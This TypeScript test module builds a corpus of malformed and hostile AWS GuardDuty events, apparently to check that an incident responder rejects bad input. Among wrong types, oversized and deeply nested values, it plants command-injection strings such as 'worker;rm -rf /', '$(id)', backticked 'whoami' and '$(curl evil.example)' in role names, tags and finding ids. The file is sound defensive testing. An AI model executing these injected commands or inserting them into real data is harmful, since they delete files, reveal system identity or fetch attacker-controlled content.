import { ASSUMED_ROLE, EC2, IAM_USER, PUBLIC_BUCKET, fixture, type EventJson } from "./guardduty-events";

// The corpus of hostile GuardDuty events: each entry edits one valid fixture in one place, and the
// responder must refuse the result in one line that names `names` (the field) — never plan it.
// Its size is HOSTILE_EVENTS.length, per class in `HOSTILE_EVENT_CLASSES`.

/** What makes an event hostile. */
export type HostileClass =
    | "not a finding" // envelope or format of something else
    | "envelope disagrees" // detail of another account, region or partition than its envelope
    | "missing field"
    | "wrong type"
    | "nesting depth" // arrays or objects nested far deeper than a finding's
    | "oversized" // beyond AWS's length limit, up to megabytes
    | "shell metacharacters" // ; $( ` newline
    | "outside the AWS character set"
    | "out of range";

export const HOSTILE_EVENT_CLASSES: readonly HostileClass[] = [
    "not a finding",
    "envelope disagrees",
    "missing field",
    "wrong type",
    "nesting depth",
    "oversized",
    "shell metacharacters",
    "outside the AWS character set",
    "out of range",
];

/** One hostile event: `fixture` with the value at `at` replaced by `value` (REMOVED: deleted; at "event": the whole event). */
export interface HostileEvent {
    readonly class: HostileClass;
    readonly label: string;
    readonly fixture: string;
    readonly at: string;
    readonly value: unknown;
    /** The field the refusal names (default: `at`). */
    readonly names?: string;
    /** The refusal's wording, where it matters. */
    readonly message?: RegExp;
}

/** Deletes the field instead of setting it. */
export const REMOVED = Symbol("removed");

const INSTANCE = "detail.resource.instanceDetails";
const KEY = "detail.resource.accessKeyDetails";
const BUCKET = "detail.resource.s3BucketDetails[0]";

/** `levels` arrays, each holding the next, built without recursion. */
export function nestedArrays(levels: number): unknown {
    let value: unknown = [];
    for (let i = 1; i < levels; i++) {
        value = [value];
    }
    return value;
}

function nestedObjects(levels: number): unknown {
    let value: unknown = {};
    for (let i = 1; i < levels; i++) {
        value = { a: value };
    }
    return value;
}

const MEGABYTES = (n: number, c = "a") => c.repeat(n * 1024 * 1024);

const entry = (
    cls: HostileClass,
    label: string,
    file: string,
    at: string,
    value: unknown,
    more: Pick<HostileEvent, "names" | "message"> = {},
): HostileEvent => ({ class: cls, label, fixture: file, at, value, ...more });

export const HOSTILE_EVENTS: readonly HostileEvent[] = [
    // Not a GuardDuty finding, or not the format this responder reads.
    entry("not a finding", "a string, not an object", EC2, "event", "hello", {
        message: /^malformed GuardDuty event: event="hello": expected an EventBridge event \(a JSON object\)$/,
    }),
    entry("not a finding", "null", EC2, "event", null, {
        message: /^malformed GuardDuty event: event=null: expected an EventBridge event/,
    }),
    entry("not a finding", "another source", EC2, "source", "aws.securityhub", {
        message: /^malformed GuardDuty event: source="aws\.securityhub": expected "aws\.guardduty"$/,
    }),
    entry("not a finding", "another detail-type", EC2, "detail-type", "GuardDuty Runtime Protection Healthy", {
        message: /: detail-type="GuardDuty Runtime Protection Healthy": expected "GuardDuty Finding"$/,
    }),
    entry(
        "not a finding",
        "PascalCase detail (the GuardDuty API's shape, not EventBridge's)",
        EC2,
        "detail",
        { SchemaVersion: "2.0" },
        {
            names: "detail.schemaVersion",
            message: /: detail\.schemaVersion is missing: expected "2\.0"/,
        },
    ),
    entry("not a finding", "another schema version", EC2, "detail.schemaVersion", "3.0", {
        message: /: detail\.schemaVersion="3\.0": expected "2\.0" \(the finding format this responder reads\)$/,
    }),
    entry("not a finding", "a type without family", EC2, "detail.type", "Backdoor", {
        message: /: detail\.type="Backdoor": expected a GuardDuty finding type such as UnauthorizedAccess:EC2\/SSHBruteForce/,
    }),
    entry("not a finding", "updatedAt not a time", EC2, "detail.updatedAt", "yesterday", {
        message: /: detail\.updatedAt="yesterday": expected an ISO 8601 time$/,
    }),

    // The envelope says where the event was delivered; the detail must agree, in the aws partition.
    entry("envelope disagrees", "a finding of another account than the event's", EC2, "detail.accountId", "999999999999", {
        message: /: detail\.accountId="999999999999": expected the event's account 111111111111$/,
    }),
    entry("envelope disagrees", "a finding of another region than the event's", EC2, "detail.region", "eu-central-1", {
        message: /: detail\.region="eu-central-1": expected the event's region eu-west-1$/,
    }),
    entry("envelope disagrees", "an event of the China partition", EC2, "region", "cn-north-1", {
        message: /: region="cn-north-1": expected a region of the aws partition \(like eu-west-1\)$/,
    }),
    entry("envelope disagrees", "a finding of the GovCloud partition", EC2, "detail.region", "us-gov-west-1"),
    entry(
        "envelope disagrees",
        "a bucket ARN of another partition",
        PUBLIC_BUCKET,
        `${BUCKET}.arn`,
        "arn:aws-cn:s3:::staging-orders-exports",
        {
            message:
                /: detail\.resource\.s3BucketDetails\[0\]\.arn="arn:aws-cn:s3:::staging-orders-exports": expected the ARN of bucket staging-orders-exports/,
        },
    ),
    entry("envelope disagrees", "a bucket ARN naming another bucket", PUBLIC_BUCKET, `${BUCKET}.arn`, "arn:aws:s3:::someone-elses-bucket"),

    // Fields a playbook needs, missing.
    entry("missing field", "no detail", EC2, "detail", REMOVED, { message: /: detail is missing: expected the finding \(an object\)$/ }),
    entry("missing field", "no finding id", EC2, "detail.id", REMOVED, {
        message: /: detail\.id is missing: expected a GuardDuty finding id/,
    }),
    entry("missing field", "no envelope account", EC2, "account", REMOVED),
    entry("missing field", "no resource type", EC2, "detail.resource.resourceType", REMOVED, {
        message: /: detail\.resource\.resourceType is missing: expected a resource type/,
    }),
    entry("missing field", "an Instance without details", EC2, INSTANCE, REMOVED, {
        message: /: detail\.resource\.instanceDetails is missing: expected the instance's details for a finding on an Instance$/,
    }),
    entry("missing field", "a network interface without VPC", EC2, `${INSTANCE}.networkInterfaces[0].vpcId`, REMOVED, {
        message: /: detail\.resource\.instanceDetails\.networkInterfaces\[0\]\.vpcId is missing: expected a VPC id/,
    }),
    entry("missing field", "an IAMUser finding without access key details", IAM_USER, KEY, REMOVED, {
        message:
            /^malformed GuardDuty event: detail\.resource\.accessKeyDetails is missing: expected the access key's details for a finding on an AccessKey$/,
    }),
    entry("missing field", "no user type", IAM_USER, `${KEY}.userType`, REMOVED),
    entry("missing field", "a public-bucket finding without buckets", PUBLIC_BUCKET, "detail.resource.s3BucketDetails", REMOVED, {
        message:
            /: detail\.resource\.s3BucketDetails is missing: expected the buckets of a Policy:S3\/BucketAnonymousAccessGranted finding$/,
    }),

    // Wrong JSON types.
    entry("wrong type", "severity as text", EC2, "detail.severity", "high", {
        message: /: detail\.severity="high": expected a GuardDuty severity from 1 to 10$/,
    }),
    entry("wrong type", "archived as text", EC2, "detail.service.archived", "yes", {
        message: /: detail\.service\.archived="yes": expected true or false$/,
    }),
    entry(
        "wrong type",
        "tags not a list",
        EC2,
        `${INSTANCE}.tags`,
        { Name: "x" },
        {
            message: /: detail\.resource\.instanceDetails\.tags=\{"Name":"x"\}: expected a list of tags \[\{key, value\}\]$/,
        },
    ),
    entry("wrong type", "a tag that is a string", EC2, `${INSTANCE}.tags[0]`, "Name=orders-worker"),
    entry("wrong type", "an instance id as a number", EC2, `${INSTANCE}.instanceId`, 1234567890),
    entry("wrong type", "network interfaces as a string", EC2, `${INSTANCE}.networkInterfaces`, "eni-0aa11bb22cc33dd44"),
    entry("wrong type", "a role name as an object", ASSUMED_ROLE, `${KEY}.userName`, { name: "staging-orders-worker" }),
    entry("wrong type", "the envelope account as a number", EC2, "account", 111111111111),
    entry("wrong type", "a bucket name as a list", PUBLIC_BUCKET, `${BUCKET}.name`, ["staging-orders-exports"]),

    // Nesting: 100,000 levels would overflow any recursive walk; refused before one.
    entry("nesting depth", "100,000 levels of arrays in a field no playbook reads", EC2, "detail.title", nestedArrays(100_000), {
        message: /^malformed GuardDuty event: detail\.title\[0\]\[0\].*: expected at most 32 levels of nested arrays and objects/,
    }),
    entry("nesting depth", "100,000 levels of objects as the instance id", EC2, `${INSTANCE}.instanceId`, nestedObjects(100_000)),
    entry("nesting depth", "100,000 levels of arrays as a tag", EC2, `${INSTANCE}.tags[0]`, nestedArrays(100_000)),
    entry("nesting depth", "100,000 levels as the sample flag", EC2, "detail.service.additionalInfo.sample", nestedArrays(100_000)),
    entry("nesting depth", "33 levels, one more than allowed", EC2, "detail.title", nestedArrays(31)),

    // Beyond AWS's length limits, up to megabytes: refused with the value cut short.
    entry("oversized", "a role name of 65 characters (IAM: at most 64)", ASSUMED_ROLE, `${KEY}.userName`, "r".repeat(65)),
    entry("oversized", "a role name of 5 MB", ASSUMED_ROLE, `${KEY}.userName`, MEGABYTES(5)),
    entry("oversized", "a user name of 65 characters (IAM: at most 64)", IAM_USER, `${KEY}.userName`, "u".repeat(65)),
    entry("oversized", "an access key id of 129 characters (IAM: at most 128)", IAM_USER, `${KEY}.accessKeyId`, `AKIA${"X".repeat(125)}`),
    entry("oversized", "a tag value of 257 characters (at most 256)", EC2, `${INSTANCE}.tags[0].value`, "v".repeat(257)),
    entry("oversized", "a tag value of 3 MB", EC2, `${INSTANCE}.tags[1].value`, MEGABYTES(3)),
    entry("oversized", "a tag key of 129 characters (at most 128)", PUBLIC_BUCKET, `${BUCKET}.tags[0].key`, "k".repeat(129)),
    entry("oversized", "a finding id of 2 MB", EC2, "detail.id", MEGABYTES(2)),
    entry("oversized", "a finding type of 101 characters (GuardDuty: at most 100)", EC2, "detail.type", `Backdoor:EC2/${"C".repeat(88)}`),
    entry("oversized", "a bucket name of 64 characters (S3: at most 63)", PUBLIC_BUCKET, `${BUCKET}.name`, "b".repeat(64)),
    entry("oversized", "an instance id of 18 hexadecimal digits", EC2, `${INSTANCE}.instanceId`, "i-0a1b2c3d4e5f607189"),

    // Shell metacharacters, wherever a value could become a target or a report line.
    entry("shell metacharacters", "a role name with ;", ASSUMED_ROLE, `${KEY}.userName`, "worker;rm -rf /"),
    entry("shell metacharacters", "a user name with $(…)", IAM_USER, `${KEY}.userName`, "ci$(id)"),
    entry("shell metacharacters", "a bucket name with backticks", PUBLIC_BUCKET, `${BUCKET}.name`, "`whoami`"),
    entry("shell metacharacters", "a finding id with a newline", EC2, "detail.id", "a2c6f0e1\nrm -rf /"),
    entry("shell metacharacters", "a finding type with ;", EC2, "detail.type", "Backdoor:EC2/C&CActivity.B;reboot"),
    entry("shell metacharacters", "a tag value with $(…)", EC2, `${INSTANCE}.tags[0].value`, "$(curl evil.example)"),
    entry("shell metacharacters", "an instance id with ;", EC2, `${INSTANCE}.instanceId`, "i-0a1b2c3d4e5f60718;reboot"),
    entry("shell metacharacters", "an access key id with backticks", IAM_USER, `${KEY}.accessKeyId`, "AKIAX7Q2EXAMPLE7`id`"),
    entry("shell metacharacters", "a resource type with a newline", EC2, "detail.resource.resourceType", "Instance\n"),
    entry("shell metacharacters", "a user type with ;", IAM_USER, `${KEY}.userType`, "IAMUser;id"),

    // Characters AWS does not allow in the identifier.
    entry("outside the AWS character set", "a role name with a space", ASSUMED_ROLE, `${KEY}.userName`, "staging orders worker"),
    entry("outside the AWS character set", "a role name with a non-ASCII letter", ASSUMED_ROLE, `${KEY}.userName`, "staging-örders-worker"),
    entry("outside the AWS character set", "a user name with a slash", IAM_USER, `${KEY}.userName`, "ci/deployer"),
    entry("outside the AWS character set", "a tag key with *", PUBLIC_BUCKET, `${BUCKET}.tags[0].key`, "Team*"),
    entry(
        "outside the AWS character set",
        "a tag value with a right-to-left override",
        EC2,
        `${INSTANCE}.tags[0].value`,
        "orders\u202eworker",
    ),
    entry("outside the AWS character set", "a bucket name in capitals", PUBLIC_BUCKET, `${BUCKET}.name`, "Staging-Orders-Exports", {
        message: /: detail\.resource\.s3BucketDetails\[0\]\.name="Staging-Orders-Exports": expected an S3 bucket name/,
    }),
    entry("outside the AWS character set", "a bucket name with _", PUBLIC_BUCKET, `${BUCKET}.name`, "Bad_Bucket"),
    entry("outside the AWS character set", "a bucket name shaped as an IP address", PUBLIC_BUCKET, `${BUCKET}.name`, "192.168.10.1"),
    entry(
        "outside the AWS character set",
        "a bucket name with a prefix S3 reserves",
        PUBLIC_BUCKET,
        `${BUCKET}.name`,
        "xn--staging-orders",
    ),
    entry(
        "outside the AWS character set",
        "a bucket name with a suffix S3 reserves",
        PUBLIC_BUCKET,
        `${BUCKET}.name`,
        "staging-orders-s3alias",
    ),
    entry("outside the AWS character set", "an instance id of non-hex letters", EC2, `${INSTANCE}.instanceId`, "web-1", {
        message: /: detail\.resource\.instanceDetails\.instanceId="web-1": expected an instance id \(i- and 8 or 17 hexadecimal digits\)$/,
    }),
    entry(
        "outside the AWS character set",
        "a network interface id of capitals",
        EC2,
        `${INSTANCE}.networkInterfaces[1].networkInterfaceId`,
        "eni-XYZ",
        {
            message:
                /: detail\.resource\.instanceDetails\.networkInterfaces\[1\]\.networkInterfaceId="eni-XYZ": expected a network interface id/,
        },
    ),
    entry(
        "outside the AWS character set",
        "a VPC id of 12 hexadecimal digits",
        EC2,
        `${INSTANCE}.networkInterfaces[0].vpcId`,
        "vpc-0a1b2c3d4e5f",
    ),
    entry("outside the AWS character set", "an access key id with -", IAM_USER, `${KEY}.accessKeyId`, "AKIA-X7Q2-EXAMPLE7"),
    entry("outside the AWS character set", "an account id of 11 digits", EC2, "detail.accountId", "11111111111"),

    // Numbers outside their range.
    entry("out of range", "severity above 10", EC2, "detail.severity", 10.1, {
        message: /: detail\.severity=10\.1: expected a GuardDuty severity from 1 to 10$/,
    }),
    entry("out of range", "severity 0 (GuardDuty's scale starts at 1)", EC2, "detail.severity", 0),
    entry("out of range", "a negative severity", EC2, "detail.severity", -8),
    entry("out of range", "an infinite severity", EC2, "detail.severity", Number.POSITIVE_INFINITY),
];

/** `a.b[1].c` as the keys `["a", "b", 1, "c"]`. */
export function pathKeys(path: string): PropertyKey[] {
    return path.split(/\.|(?=\[)/).map((part) => (part.startsWith("[") ? Number(part.slice(1, -1)) : part));
}

/** The hostile event of an entry: its fixture, edited at one place. */
export function hostileEvent(h: HostileEvent): unknown {
    if (h.at === "event") {
        return h.value;
    }
    const event: EventJson = fixture(h.fixture);
    const keys = pathKeys(h.at);
    const parent = keys.slice(0, -1).reduce<Record<PropertyKey, unknown>>((node, key) => node[key] as Record<PropertyKey, unknown>, event);
    const last = keys[keys.length - 1];
    if (h.value === REMOVED) {
        delete parent[last];
    } else {
        parent[last] = h.value;
    }
    return event;
}
